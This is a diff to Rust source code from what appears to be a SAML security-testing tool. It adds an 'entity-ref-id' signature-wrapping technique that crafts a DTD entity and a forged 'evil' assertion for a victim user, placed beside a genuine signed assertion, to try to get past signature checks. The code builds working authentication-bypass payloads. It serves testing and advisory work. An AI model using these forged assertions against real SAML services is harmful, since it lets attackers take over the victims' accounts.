@@ -8,8 +8,8 @@
 
 use super::stages::StageContext;
 use super::{
-    DigestPosition, DuplicateIdPlacement, HiddenOriginal, ResponseLevelOriginal, SignatureHome,
-    signed_assertion,
+    DigestPosition, DuplicateIdPlacement, EntityRefIdPlacement, HiddenOriginal,
+    ResponseLevelOriginal, SignatureHome, signed_assertion,
 };
 use crate::saml::assertion::AssertionModel;
 use crate::saml::mint::{Assembly, Fragment, MintError, write_response_with_signature};
@@ -432,5 +432,93 @@ pub(crate) fn xsw_assertion_signature_on_response(
         ResponseLevelOriginal::Wrapper => asm.prefix.push(in_wrapper(&w.clean)),
     }
     asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, None));
+    Ok(())
+}
+
+// ---- S8 remainder: an entity reference in the ID (docs/advisories.md) ----
+
+/// The name of the internal entity whose replacement text is the genuine assertion's ID.
+pub(crate) const ID_ENTITY: &str = "i";
+
+/// `<!DOCTYPE {root} [<!ENTITY i "{id}">]>`: the DTD an `entity-ref-id` document starts with.
+/// An internal entity only (no SYSTEM identifier: nothing to fetch). The ID is refused if it
+/// holds a character that would make the literal ambiguous (the broker's IDs never do).
+pub(crate) fn id_entity_doctype(root: &str, id: &str) -> Result<String, MintError> {
+    if id.contains(['&', '<', '%', '"']) {
+        return Err(super::FaultError::NotApplicable(format!(
+            "assertion ID {id:?} holds markup characters; refusing to write an ambiguous DTD"
+        ))
+        .into());
+    }
+    Ok(format!(r#"<!DOCTYPE {root} [<!ENTITY {ID_ENTITY} "{id}">]>"#))
+}
+
+/// `entity-ref-id`: an evil assertion for `victim` whose `ID` is written `&i;` (the entity the
+/// DTD declares as the genuine assertion's ID), next to the genuine signed assertion, with the
+/// Signature left in the genuine one or moved into the evil one. `Extensions`: plaintext, the
+/// genuine assertion in `samlp:Extensions` (the Response's DTD is the document stage's part);
+/// `EncryptedNested`: one encrypted document, its own DTD, then the evil assertion with the
+/// genuine one as its last child.
+pub(crate) fn entity_ref_id(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+    placement: EntityRefIdPlacement,
+    signature: SignatureHome,
+) -> Result<(), MintError> {
+    let encrypted = cx.encryption.is_some();
+    match (placement, encrypted) {
+        (EntityRefIdPlacement::Extensions, true) => {
+            return Err(super::FaultError::NotApplicable(
+                "entity-ref-id placement = \"extensions\" puts the DTD on the Response, which a decrypted assertion never sees: add `no-encryption`".into(),
+            )
+            .into());
+        }
+        (EntityRefIdPlacement::EncryptedNested, false) => {
+            return Err(super::FaultError::NotApplicable(
+                "entity-ref-id placement = \"encrypted-nested\" needs encryption (its DTD starts the encrypted document): remove `no-encryption`".into(),
+            )
+            .into());
+        }
+        (EntityRefIdPlacement::Extensions, false) | (EntityRefIdPlacement::EncryptedNested, true) => {}
+    }
+    let Some(w) = Wrapping::of(asm, cx, victim)? else {
+        return Ok(());
+    };
+    let genuine_id = cx
+        .model
+        .assertions
+        .first()
+        .and_then(|a| a.id.clone())
+        .ok_or_else(|| super::FaultError::NotApplicable("the assertion has no ID".into()))?;
+    let (genuine, evil) = match signature {
+        SignatureHome::Genuine => (w.signed, write_assertion(&w.evil, None)),
+        SignatureHome::Evil => (w.clean, write_assertion(&w.evil, Some(&w.signature))),
+    };
+    // The evil assertion is written with its own (derived, attribute-safe) ID, which is then
+    // replaced by the entity reference in its start tag only.
+    let own = format!(r#" ID="{}""#, escape_attr(w.evil.id.as_deref().unwrap_or_default()));
+    let at = evil
+        .find(&own)
+        .filter(|at| *at < evil.find('>').unwrap_or(0))
+        .ok_or_else(|| super::FaultError::NotApplicable("the evil assertion has no ID".into()))?;
+    let evil = format!(
+        r#"{} ID="&{ID_ENTITY};"{}"#,
+        &evil[..at],
+        &evil[at + own.len()..]
+    );
+    match placement {
+        EntityRefIdPlacement::Extensions => {
+            asm.extensions = Some(format!("<samlp:Extensions>{genuine}</samlp:Extensions>"));
+            asm.fragments[0] = Fragment::assertion(evil);
+        }
+        EntityRefIdPlacement::EncryptedNested => {
+            let dtd = id_entity_doctype("saml:Assertion", &genuine_id)?;
+            asm.fragments[0] = Fragment::assertion(format!(
+                "{dtd}{}",
+                as_last_child(&evil, &genuine)
+            ));
+        }
+    }
     Ok(())
 }
